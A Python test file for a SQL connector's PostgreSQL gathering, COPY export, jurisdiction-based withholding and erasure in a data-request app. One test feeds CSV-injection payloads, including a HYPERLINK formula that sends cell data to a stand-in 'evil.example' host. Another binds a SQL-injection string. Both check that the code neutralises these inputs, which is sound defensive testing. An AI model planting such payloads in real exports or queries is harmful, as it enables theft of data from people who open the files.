"""The SQL connector's PostgreSQL paths, on a customer database of its own on the
test server: one prepared statement per table per hop, array parameters, leaf tables
copied by the database itself when they hold many rows (JSON lines and CSV that
PostgreSQL formats, the columns the request's jurisdiction holds back replaced in
the SELECT), and the
portability package built from those bytes. Gathering values a hand-made writer
would get wrong, and erasing, run on every engine (`any_shop`: SQLite, PostgreSQL
and MariaDB)."""

import csv
import datetime
import hashlib
import io
import json
import zipfile

import psycopg
import pytest
import sqlalchemy as sa

from requests_app.services.fulfilment import packages
from requests_app.files import iter_decrypted
from requests_app.models import DataSource
from requests_app.rules import withheld_under
from requests_app.sources.base import IdentityData
from requests_app.sources.categories import WITHHELD
from requests_app.sources.records import RecordSink, iter_member, read_records, run_dir
from requests_app.sources.sql import driver
from requests_app.sources.sql.connector import SqlConnector
from requests_app.zipfiles import stream_zip
from tests.conftest import engine_ddl, insert_rows, scratch_database

# Values a hand-made JSON or CSV writer would get wrong.
AWKWARD = ['10.0.0.1', 'quote " and, comma', 'back\\slash', 'new\nline', 'tab\there',
           'zoë 东京', "o'brien %s %(x)s"]


@pytest.fixture
def pg_shop(settings, tmp_path, shop_schema, tricky_email, monkeypatch):
    """The test shop on PostgreSQL; its DSN."""
    settings.MEDIA_ROOT = str(tmp_path)
    with scratch_database("pg_shop") as dsn:
        load_shop(driver.engine_url(dsn), "postgresql", shop_schema, tricky_email)
        monkeypatch.setenv("SHOP_DSN", dsn)
        yield dsn


@pytest.fixture
def any_shop(sql_engine, settings, tmp_path, shop_schema, tricky_email, monkeypatch):
    """The test shop on each engine (SQLite, PostgreSQL, MariaDB: sql_engine); its
    URL."""
    settings.MEDIA_ROOT = str(tmp_path)
    load_shop(sql_engine, sql_engine.engine, shop_schema, tricky_email)
    monkeypatch.setenv("SHOP_DSN", sql_engine)
    return sql_engine


def load_shop(url: str, engine_name: str, schema: str, tricky_email: str) -> None:
    """The test shop with Pat's events holding AWKWARD values (values bound)."""
    engine = sa.create_engine(url)
    try:
        with engine.begin() as conn:
            for statement in engine_ddl(schema, engine_name):
                conn.exec_driver_sql(statement)
            insert_rows(conn, {
                "customers": [(1, "pat@example.com", "Pat Doe", "555-0100", "123-45-6789",
                               None, "2020-01-01"),
                              (2, "sam@example.com", "Sam Roe", None, None, None, None),
                              (3, tricky_email, "Ona Brien", None, None, None, None)],
                "addresses": [(10, "1 Main St", "Austin"), (11, "2 Side St", "Dallas")],
                "orders": [(100, 1, 10, 25.0, "Pat Doe"), (101, 1, 11, 10.0, "Pat D."),
                           (102, 2, 11, 5.0, "Sam Roe")],
                "devices": [(7, "ck-pat", 1), (8, "ck-sam", 2)],
                "events": [(70 + i, "ck-pat", ip) for i, ip in enumerate(AWKWARD)]
                          + [(80, "ck-sam", "sams-ip")],
            })
            # Pat and Sam referred each other (set once both exist).
            conn.execute(sa.text("UPDATE customers SET referred_by = :to WHERE id = :id"),
                         [{"id": 1, "to": 2}, {"id": 2, "to": 1}])
    finally:
        engine.dispose()


@pytest.fixture
def source(shop_map):
    """source(dataset_map=the test shop's): the shop (pg_shop or any_shop) as a
    DataSource."""
    def source(dataset_map=shop_map):
        return DataSource(name="Shop", kind="sql", connection_env="SHOP_DSN",
                          dataset_map=dataset_map)
    return source


@pytest.fixture
def gather(source_run):
    """gather(connector, email, run=None): the run, the outcome and the collections."""
    def gather(connector, email, run=None):
        run = run or source_run()
        with RecordSink(run, 1) as sink:
            outcome = connector.gather(run, IdentityData(email=email), sink)
        return run, outcome, sink.collections
    return gather


def test_gathering_finds_the_same_rows_and_values_on_every_engine(
        any_shop, tricky_email, gather, source):
    connector = SqlConnector(source())
    run, outcome, collections = gather(connector, "pat@example.com")
    assert outcome.result["tables"] == {"customers": 1, "orders": 2, "addresses": 2,
                                        "devices": 1, "events": len(AWKWARD)}
    assert collections["events"].get("format") != "copy"  # few rows: read as usual
    events = sorted(r["ip"] for r in read_records(run, collections["events"]))
    assert events == sorted(AWKWARD)
    _, outcome, _ = gather(connector, tricky_email)
    assert outcome.result["tables"] == {"customers": 1}
    _, outcome, _ = gather(connector, "%")
    assert outcome.records == 0


def test_a_leaf_with_many_rows_is_copied_formatted_by_the_database(
        pg_shop, monkeypatch, source_run, shop_map, gather, source):
    monkeypatch.setattr(driver, "BATCH", 2)  # so events (7 rows of Pat's) counts as many
    # ip as a never-disclosed category: replaced in the SELECT, never on our disk.
    secret_map = shop_map.replace("ip: user.device.ip_address",
                                  "ip: user.authorization.credentials")
    connector = SqlConnector(source(secret_map))
    run, outcome, collections = gather(connector, "pat@example.com")
    info = collections["events"]
    assert info["format"] == "copy" and info["count"] == len(AWKWARD)
    assert outcome.result["tables"]["events"] == len(AWKWARD)
    assert [r["ip"] for r in read_records(run, info)] == [WITHHELD] * len(AWKWARD)
    for key in ("file", "csv"):  # deflated, then encrypted: look at the plaintext
        assert b"".join(iter_decrypted(run_dir(run) / info[key]))  # something written
        text = b"".join(iter_member(run, info, key)).decode()
        assert "10.0.0.1" not in text and "sams-ip" not in text
        assert info["deflated"][key]["bytes"] == len(text.encode())

    connector = SqlConnector(source())
    run, outcome, collections = gather(connector, "pat@example.com")
    info = collections["events"]
    assert info["format"] == "copy"
    array = json.loads(b"".join(iter_member(run, info, "file")))
    assert sorted(r["ip"] for r in array) == sorted(AWKWARD)
    rows = list(csv.DictReader(io.StringIO(
        b"".join(iter_member(run, info, "csv")).decode(), newline="")))
    assert sorted(r["ip"] for r in rows) == sorted(AWKWARD)
    # The members go into the zip as they were deflated when gathered.
    archive = zipfile.ZipFile(io.BytesIO(b"".join(stream_zip(
        [(f"{key}.x", packages._deflated(run, info, key)) for key in ("file", "csv")],
        datetime.datetime.now(datetime.timezone.utc)))))
    assert archive.testzip() is None
    for key in ("file", "csv"):
        body = archive.read(f"{key}.x")
        assert body == b"".join(iter_member(run, info, key))
        assert hashlib.sha256(body).hexdigest() == info["deflated"][key]["sha256"]
    assert json.loads(archive.read("file.x")) == array
    empty = source_run()
    with RecordSink(empty, 1) as sink:
        sink.write_copy("none", {"ip": "user"}, lambda write: None, lambda write: write(b"ip\n"))
    assert json.loads(b"".join(iter_member(empty, sink.collections["none"], "file"))) == []


def test_a_copied_leafs_csv_neutralises_formulas_and_its_json_keeps_them(
        pg_shop, monkeypatch, gather, source):
    """The CSV PostgreSQL writes follows csvcells' rule (tests/test_csv_injection.py)."""
    monkeypatch.setattr(driver, "BATCH", 2)  # events are copied
    evil = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(1)",
            "\t=1", "\r=1", "-42"]
    with psycopg.connect(pg_shop, autocommit=True) as conn:
        for i, value in enumerate(evil):
            conn.execute("UPDATE events SET ip = %s WHERE id = %s", (value, 70 + i))
    run, _outcome, collections = gather(SqlConnector(source()), "pat@example.com")
    info = collections["events"]
    assert info["format"] == "copy"
    rows = list(csv.DictReader(io.StringIO(
        b"".join(iter_member(run, info, "csv")).decode(), newline="")))
    assert sorted(r["ip"] for r in rows) == sorted(["'" + v for v in evil[:-1]] + ["-42"])
    array = json.loads(b"".join(iter_member(run, info, "file")))
    assert sorted(r["ip"] for r in array) == sorted(evil)


def test_a_copied_leaf_holds_only_the_rows_of_the_period_asked_for(
        pg_shop, monkeypatch, source_run, shop_map, gather, source):
    import datetime

    monkeypatch.setattr(driver, "BATCH", 2)  # events are copied
    with psycopg.connect(pg_shop, autocommit=True) as conn:
        conn.execute("ALTER TABLE events ADD COLUMN at timestamptz")
        conn.execute("UPDATE events SET at = CASE id WHEN 70 THEN '2024-12-31 23:59:59+00' "
                     "WHEN 71 THEN '2025-06-30 23:59:59+00' WHEN 72 THEN '2025-07-01 00:00+00' "
                     "WHEN 73 THEN '2025-01-01 00:00+00' END::timestamptz")
    connector = SqlConnector(source(shop_map + "    collected_at: at\n"))
    run, outcome, collections = gather(
        connector, "pat@example.com",
        source_run(datetime.date(2025, 1, 1), datetime.date(2025, 6, 30)))
    info = collections["events"]
    assert info["format"] == "copy" and info["count"] == len(AWKWARD) - 2
    assert sorted(r["ip"] for r in read_records(run, info)) == sorted(
        ip for i, ip in enumerate(AWKWARD) if 70 + i not in (70, 72))
    rows = list(csv.DictReader(io.StringIO(
        b"".join(iter_member(run, info, "csv")).decode(), newline="")))
    assert len(rows) == len(AWKWARD) - 2
    assert outcome.result["tables"]["events"] == len(AWKWARD) - 2
    assert outcome.result["outside_period"] == {"events": 2}
    text_time = source(shop_map + "    collected_at: ip\n")  # a text column: refused at save
    assert any("collected_at column `ip` must be a date or a timestamp" in p
               for p in SqlConnector(text_time).check())


def test_erasure_deletes_leaves_set_based_and_leaves_nothing_on_every_engine(
        any_shop, source_run, source):
    connector, run = SqlConnector(source()), source_run()
    identity = IdentityData(email="pat@example.com")
    plan = connector.plan_erasure(run, identity)
    assert plan.result["tables"]["events"]["rows"] == len(AWKWARD)
    connector.erase(run, identity, {})
    assert connector.remaining(run, identity) == 0
    engine = sa.create_engine(any_shop)
    with engine.connect() as conn:
        assert conn.exec_driver_sql("SELECT id FROM events").fetchall() == [(80,)]
        assert tuple(conn.exec_driver_sql("SELECT name FROM customers WHERE id = 2"
                                          ).fetchone()) == ("Sam Roe",)
    engine.dispose()


def test_lookups_with_more_values_than_one_array_holds_are_streamed(
        pg_shop, monkeypatch, source_run, gather, source):
    monkeypatch.setattr(driver, "ARRAY_BATCH", 1)  # every lookup of 2+ values: chunked
    connector = SqlConnector(source())
    run, outcome, collections = gather(connector, "Pat@Example.com")  # and pat@example.com
    assert outcome.result["tables"] == {"customers": 1, "orders": 2, "addresses": 2,
                                        "devices": 1, "events": len(AWKWARD)}
    identity = IdentityData(email="pat@example.com")
    assert connector.plan_erasure(source_run(), identity).result["tables"]["events"]["rows"] == len(
        AWKWARD)


def test_copy_out_reads_rows_binds_values_client_side_and_drops_a_failed_connection(pg_shop):
    engine = driver._engine(driver.engine_url(pg_shop))
    copy_out, rows = driver._copy_out, []
    with engine.connect() as conn:
        copy_out(conn, "COPY (SELECT ip FROM events WHERE ip = ANY(%(ips)s) ORDER BY id) "
                 "TO STDOUT", {"ips": AWKWARD[:2] + ["' OR 1=1 --"]}, rows.append)
        assert b"".join(rows) == b"10.0.0.1\nquote \" and, comma\n"
        with pytest.raises(psycopg.errors.UndefinedTable):
            copy_out(conn, "COPY (SELECT * FROM no_such_table) TO STDOUT", {}, rows.append)
        assert conn.invalidated

    def fail(data):
        raise RuntimeError("the sink failed")

    with engine.connect() as conn:  # stopped in the middle of a COPY: not reused
        with pytest.raises(RuntimeError):
            copy_out(conn, "COPY (SELECT ip FROM events) TO STDOUT", {}, fail)
        assert conn.invalidated
    with engine.connect() as conn:
        rows.clear()
        copy_out(conn, "COPY (SELECT count(*) FROM events) TO STDOUT", {}, rows.append)
        assert b"".join(rows) == f"{len(AWKWARD) + 1}\n".encode()
        rows.clear()  # many rows: passed on in blocks of whole rows, not one call per row
        copy_out(conn, "COPY (SELECT i FROM generate_series(1, 100000) AS i) TO STDOUT",
                 {}, rows.append)
        assert 1 < len(rows) < 10 and all(block.endswith(b"\n") for block in rows)
        assert b"".join(rows) == b"".join(b"%d\n" % i for i in range(1, 100001))


def _connections_to(dsn: str) -> int:
    with psycopg.connect(dsn, autocommit=True) as conn:
        return conn.execute("SELECT count(*) FROM pg_stat_activity "
                            "WHERE datname = current_database() AND pid <> pg_backend_pid()"
                            ).fetchone()[0]


@pytest.mark.django_db
def test_warming_up_reflects_each_enabled_sql_source_and_only_logs_one_not_reached(
        pg_shop, monkeypatch, caplog, shop_map, source):
    from requests_app.services.fulfilment.warm_up import warm_up_worker

    monkeypatch.setattr(driver, "_REFLECTED", {})
    source().save()
    unreachable = DataSource.objects.create(name="Gone", kind="sql",
                                            connection_env="PP_NO_SUCH_DSN", dataset_map=shop_map)
    DataSource.objects.create(name="Off", kind="sql", enabled=False,
                              connection_env="PP_NO_SUCH_DSN_EITHER", dataset_map=shop_map)
    warm_up_worker()
    assert [sorted(tables) for tables in driver._REFLECTED.values()] == [
        sorted(SqlConnector(source()).map.tables)]
    assert _connections_to(pg_shop) >= 2  # the pool's two, for a copied leaf's two COPYs
    assert [r.getMessage() for r in caplog.records if "warm-up" in r.getMessage()] == [
        f"warm-up: source {unreachable.pk} not reached (SourceError)"]


@pytest.mark.integration
@pytest.mark.django_db(transaction=True)
def test_a_worker_process_warms_up_its_sql_sources_before_any_task(pg_shop, source):
    """Celery's worker_process_init starts the warm-up (tasks._warm_up): a new worker
    process connects to the source before it is given anything to do."""
    from tests.conftest import start_worker, stop_process_group, wait_for

    source().save()
    assert _connections_to(pg_shop) == 0
    worker = start_worker("warm", {"SHOP_DSN": pg_shop})
    try:
        assert wait_for(lambda: _connections_to(pg_shop) >= 2, timeout=30)
    finally:
        stop_process_group(worker)


@pytest.mark.parametrize("jurisdiction,held", [("CA", True), ("GDPR", False)])
def test_a_copied_leaf_holds_back_what_the_requests_jurisdiction_holds_back(
        pg_shop, monkeypatch, source_run, shop_map, source, jurisdiction, held):
    """The request's jurisdiction reaches the SELECT of a copied leaf (through the
    sink): a government id is replaced in the database for California, and given
    as it is under the GDPR, which asks for a copy of the data itself."""
    monkeypatch.setattr(driver, "BATCH", 2)  # Pat's events are copied
    gov_map = shop_map.replace("ip: user.device.ip_address",
                               "ip: user.government_id.national_identification_number")
    run = source_run()
    with RecordSink(run, 1, withheld=withheld_under(jurisdiction)) as sink:
        SqlConnector(source(gov_map)).gather(run, IdentityData(email="pat@example.com"), sink)
    info = sink.collections["events"]
    assert info["format"] == "copy"
    ips = [r["ip"] for r in read_records(run, info)]
    text = b"".join(iter_member(run, info, "csv")).decode()
    if held:
        assert ips == [WITHHELD] * len(AWKWARD) and "10.0.0.1" not in text
        assert info["withheld"] == {"ip": "ccpa_7024d"}
    else:
        assert sorted(ips) == sorted(AWKWARD) and "10.0.0.1" in text
        assert "withheld" not in info
